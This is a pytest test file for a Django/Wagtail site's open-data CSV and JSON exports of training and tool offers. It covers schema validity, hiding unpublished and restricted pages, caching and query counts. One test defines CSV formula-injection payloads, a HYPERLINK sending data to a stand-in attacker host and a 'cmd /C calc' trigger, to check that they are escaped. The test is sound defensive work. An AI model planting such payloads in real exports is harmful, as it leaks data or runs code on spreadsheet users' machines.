"""The open-data exports: visible offers only, every row a valid data·inclusion service,
with a licence, an ETag answered by 304, public caching and a constant SQL cost."""

import csv
import io
import json
from importlib.metadata import version

import pytest
from data_inclusion.schema.v1 import (
    Frais,
    ModeAccueil,
    Public,
    Service,
    Thematique,
    TypeService,
)

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from wagtail.models import PageViewRestriction

from catalogue import opendata
from catalogue.choices import OfferFormat, PricingModel, Territory
from catalogue.models import OFFER_MODELS
from tests.factories.catalogue import (
    ActorFactory,
    AudienceFactory,
    ThemeFactory,
    ToolPageFactory,
    TrainingOfferPageFactory,
    offer_factory,
)

pytestmark = pytest.mark.django_db

CSV_URL = "/opendata/offres.csv"
JSON_URL = "/opendata/offres.json"
# Warnings of the schema (a name ending with a full stop…) count as failures here.
STRICT = {"ignore_warnings": False}


def _json_services(client):
    response = client.get(JSON_URL)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    return json.loads(response.content)["services"]


def _csv_services(client):
    response = client.get(CSV_URL)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    reader = csv.DictReader(io.StringIO(text))
    assert tuple(reader.fieldnames) == opendata.COLUMNS
    return list(reader)


def _from_csv(row: dict) -> dict:
    """A CSV row back into the schema's types, as a reuser would read it."""
    lists = {
        name
        for name, field in Service.model_fields.items()
        if "set[" in str(field.annotation) or "list[" in str(field.annotation)
    }
    service = {}
    for name, value in row.items():
        if value == "":
            service[name] = None
        elif name in lists:
            service[name] = value.split(opendata.CSV_LIST_SEPARATOR)
        else:
            service[name] = value
    return service


@pytest.fixture
def offers(catalogue):
    """One live offer of every kind, a hybrid paid training with mapped themes and
    audiences, and three offers the public must never see."""
    provider = ActorFactory(name="Coopérative", slug="cooperative", departments="37, 41")
    live = [offer_factory(model)(parent=catalogue, provider=provider) for model in OFFER_MODELS]
    mapped = TrainingOfferPageFactory(
        parent=catalogue,
        title="Former les bénévoles au numérique",
        provider=provider,
        format=OfferFormat.HYBRID,
        territory=Territory.DEPARTMENTAL,
        pricing_model=PricingModel.NONPROFIT_RATE,
        price_details="20 € par personne",
        themes=[
            ThemeFactory(slug="competences-numeriques", name="Compétences numériques"),
            ThemeFactory(slug="gouvernance", name="Gouvernance"),
        ],
        audiences=[
            AudienceFactory(slug="benevoles", name="Bénévoles"),
            AudienceFactory(slug="seniors", name="Seniors"),
        ],
    )
    ToolPageFactory(parent=catalogue, title="Brouillon secret", live=False)
    changed = ToolPageFactory(parent=catalogue, title="Titre publié")
    changed.title = "Titre non publié"
    changed.save_revision()
    restricted = ToolPageFactory(parent=catalogue, title="Réservé aux membres")
    PageViewRestriction.objects.create(page=restricted, restriction_type="login")
    return [*live, mapped, changed]


def _exported(client, offer) -> tuple[dict, dict]:
    """The offer's CSV row and JSON service."""
    offer_id = f"reperes--{offer.pk}"
    row = next(row for row in _csv_services(client) if row["id"] == offer_id)
    service = next(service for service in _json_services(client) if service["id"] == offer_id)
    return row, service


# What an editor (or someone who got an editor's account) could type to run code or leak
# data on the machine of whoever opens the CSV in a spreadsheet.
HYPERLINK = '=HYPERLINK("https://attaquant.example/?d="&A2;"Voir la fiche")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_cells_a_spreadsheet_would_run_are_text_in_the_csv(client, catalogue):
    offer = ToolPageFactory(parent=catalogue, title=HYPERLINK, summary=SUM)
    row, service = _exported(client, offer)
    assert row["nom"] == "'" + HYPERLINK
    assert row["description"] == "'" + SUM
    # The JSON is read by programs, not spreadsheets: it keeps what the editor wrote.
    assert (service["nom"], service["description"]) == (HYPERLINK, SUM)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_prefixed(client, catalogue, start):
    summary = f"{start}1+2 : une description piégée"
    offer = ToolPageFactory(parent=catalogue, summary=summary)
    row, service = _exported(client, offer)
    assert row["description"] == "'" + summary
    assert service["description"] == summary


def test_ordinary_text_round_trips_and_phones_get_the_prefix_too(client, catalogue):
    provider = ActorFactory(contact_phone="+33 1 23 45 67 89")
    summary = 'Un outil "libre", simple = efficace ; 1+1, @partout.\nSur deux lignes.'
    offer = ToolPageFactory(
        parent=catalogue, title="Outil - édition 2026", summary=summary, provider=provider
    )
    row, service = _exported(client, offer)
    # Triggers inside the text, quotes, commas and line breaks come back as written.
    assert (row["nom"], row["description"]) == ("Outil - édition 2026", summary)
    # A leading "+" is prefixed whatever follows it (OWASP: no guessing which "+" is
    # harmless); the JSON keeps the number as it is.
    assert row["telephone"] == "'+33 1 23 45 67 89"
    assert service["telephone"] == "+33 1 23 45 67 89"


@pytest.mark.parametrize(
    "read", [_json_services, lambda client: map(_from_csv, _csv_services(client))]
)
def test_every_row_is_a_valid_data_inclusion_service(client, offers, read):
    services = list(read(client))
    assert {service["id"] for service in services} == {f"reperes--{offer.pk}" for offer in offers}
    for service in services:
        Service.model_validate(service, context=STRICT)


def test_only_live_public_content_is_exported(client, offers):
    body = client.get(JSON_URL).content.decode() + "".join(
        line.decode() for line in client.get(CSV_URL).streaming_content
    )
    assert "Titre publié" in body
    for secret in ("Brouillon secret", "Titre non publié", "Réservé aux membres"):
        assert secret not in body


def test_our_fields_map_to_the_schema_codes(client, offers):
    mapped = offers[-2]
    service = next(s for s in _json_services(client) if s["id"] == f"reperes--{mapped.pk}")
    assert service["type"] == "formation"
    # Governance has no counterpart: left out there, kept in our own column.
    assert service["thematiques"] == ["numerique--maitriser-les-fondamentaux-du-numerique"]
    assert service["reperes_thematiques"] == ["competences-numeriques", "gouvernance"]
    assert service["publics"] == ["seniors"]
    assert service["publics_precisions"] == "Bénévoles, Seniors"
    assert service["frais"] == "payant"
    assert service["frais_precisions"] == "Tarif associatif. 20 € par personne"
    assert service["modes_accueil"] == ["a-distance", "en-presentiel"]
    assert service["zone_eligibilite"] == ["37", "41"]
    assert (service["commune"], service["code_postal"]) == ("Tours", "37000")
    assert service["structure_id"] == "reperes--cooperative"
    assert service["lien_source"] == f"http://testserver{mapped.url}"
    assert service["lien_mobilisation"] == "https://example.org/"
    assert "envoyer-un-courriel" in service["modes_mobilisation"]


def test_grand_public_stands_alone_and_online_offers_have_no_address(catalogue):
    offer = ToolPageFactory(
        parent=catalogue,
        audiences=[AudienceFactory(slug="grand-public"), AudienceFactory(slug="jeunes")],
    )
    service = opendata.offer_service(opendata.export_offers()[0])
    assert offer.format == OfferFormat.ONLINE
    assert service["publics"] == ["tous-publics"]
    assert service["commune"] is None
    assert service["zone_eligibilite"] == ["france"]
    Service.model_validate(service, context=STRICT)


def test_the_mapping_uses_codes_of_the_pinned_schema():
    assert version("data-inclusion-schema") == opendata.SCHEMA_VERSION
    assert set(opendata.THEMATIQUES.values()) <= {code.value for code in Thematique}
    assert set(opendata.PUBLICS.values()) <= {code.value for code in Public}
    assert set(opendata.FRAIS.values()) <= {code.value for code in Frais}
    assert set(opendata.TYPES.values()) <= {code.value for code in TypeService}
    modes = {mode for modes in opendata.MODES_ACCUEIL.values() for mode in modes}
    assert modes <= {code.value for code in ModeAccueil}


@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
def test_licence_caching_and_conditional_get(client, offers, url, django_assert_num_queries):
    response = client.get(url)
    etag = response["ETag"]
    assert etag
    assert 'rel="license"' in response["Link"]
    assert opendata.LICENCE["url"] in response["Link"]
    assert "public" in response["Cache-Control"]
    assert "max-age=" in response["Cache-Control"]
    assert "Cookie" not in response.get("Vary", "")
    with django_assert_num_queries(0):
        assert client.get(url, headers={"if-none-match": etag}).status_code == 304
    # A publication changes the export, and so its ETag.
    ToolPageFactory(parent=offers[0].get_parent(), title="Nouvelle offre")
    fresh = client.get(url, headers={"if-none-match": etag})
    assert fresh.status_code == 200
    assert fresh["ETag"] != etag


def test_the_json_export_carries_its_licence(client, offers):
    document = json.loads(client.get(JSON_URL).content)
    assert document["licence"]["spdx"] == "etalab-2.0"
    assert document["schema"]["version"] == opendata.SCHEMA_VERSION


@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
def test_only_get_and_head(client, url):
    assert client.post(url).status_code == 405
    assert client.head(url).status_code == 200


def _export_queries(client, url):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
        if response.streaming:
            b"".join(response.streaming_content)
    return len(queries.captured_queries)


@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
def test_constant_sql_whatever_the_number_of_offers(
    client, catalogue, url, django_assert_max_num_queries
):
    themes, audiences = [ThemeFactory(), ThemeFactory()], [AudienceFactory()]
    factories = [offer_factory(model) for model in OFFER_MODELS]

    def add(count):
        for n in range(count):
            factories[n % len(factories)](parent=catalogue, themes=themes, audiences=audiences)

    add(4)
    _export_queries(client, url)  # Wagtail caches the site's root paths on the first call
    few = _export_queries(client, url)
    add(24)
    # The new offers move the content generation: what is read once per generation (the
    # private collections, the restricted sections) is read again, by a first call.
    _export_queries(client, url)
    with django_assert_max_num_queries(few):
        many = _export_queries(client, url)
    assert few <= 6
    assert many == few


def test_the_footer_links_the_exports(client, home_page):
    page = client.get(home_page.url).content.decode()
    assert reverse("opendata_offers_csv") in page
    assert reverse("opendata_offers_json") in page
    assert "Licence Ouverte" in page
